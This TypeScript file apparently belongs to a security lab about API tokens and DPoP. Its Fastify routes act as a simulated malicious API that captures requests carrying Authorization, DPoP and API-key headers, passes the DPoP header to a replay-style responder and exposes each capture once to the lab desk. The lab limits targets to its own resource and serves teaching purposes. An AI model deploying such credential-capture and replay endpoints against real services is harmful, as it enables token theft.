import { sendFault } from '@keybound/app-kit';
import type { FastifyInstance, FastifyRequest } from 'fastify';
import { TARGET_PARAMETER } from '../comparison/malicious-api.ts';
import type { WireRequest } from '../comparison/wire.ts';
import type { LabConfig } from '../lab/lab-config.ts';
import { answerMaliciously } from './malicious-answer.ts';
import { wireRequest } from './malicious-server.ts';

/** How many plays are remembered that nobody has asked about. */
const MAX_PLAYS = 50;

type PlayRequest = FastifyRequest<{ Params: { play: string } }>;

/** The malicious API that pages of the lab call, and what the thief finds there afterwards, play by play. */
export function maliciousRoutes(
  app: FastifyInstance,
  { labOrigin, deskOrigin, resource }: LabConfig,
): void {
  const received = new Map<string, WireRequest>();
  const path = '/malicious-api/:play/notes';
  const cors = {
    'access-control-allow-origin': labOrigin,
    'access-control-allow-headers': 'Authorization, DPoP, X-API-Key',
    'access-control-expose-headers': 'WWW-Authenticate, DPoP-Nonce',
    'cache-control': 'no-store',
  };

  app.options(path, async (_request, reply) => reply.code(204).headers(cors).send());

  app.get(path, async (request: PlayRequest, reply) => {
    reply.headers(cors);
    const target = (request.query as Readonly<Record<string, unknown>>)[TARGET_PARAMETER];
    // It is after one API only: it must not be a way to make this server call others.
    const isVictim = typeof target === 'string' && target.startsWith(`${resource}/`);
    if (!isVictim) return sendFault(reply, 400);
    const stolen = { ...wireRequest(request.raw), url: `${deskOrigin}${request.url}` };
    const [oldest] = received.keys();
    if (oldest !== undefined && received.size >= MAX_PLAYS) received.delete(oldest);
    received.set(request.params.play, stolen);
    const { status, headers } = await answerMaliciously(target, stolen.headers.dpop);
    return reply.code(status).headers(headers).send();
  });

  // For the desk, which has this origin and knows the play; once, and no other origin may read it.
  app.get('/malicious-api/:play/received', async (request: PlayRequest, reply) => {
    const { play } = request.params;
    const stolen = received.get(play);
    received.delete(play);
    return reply.header('cache-control', 'no-store').send(stolen ?? null);
  });
}
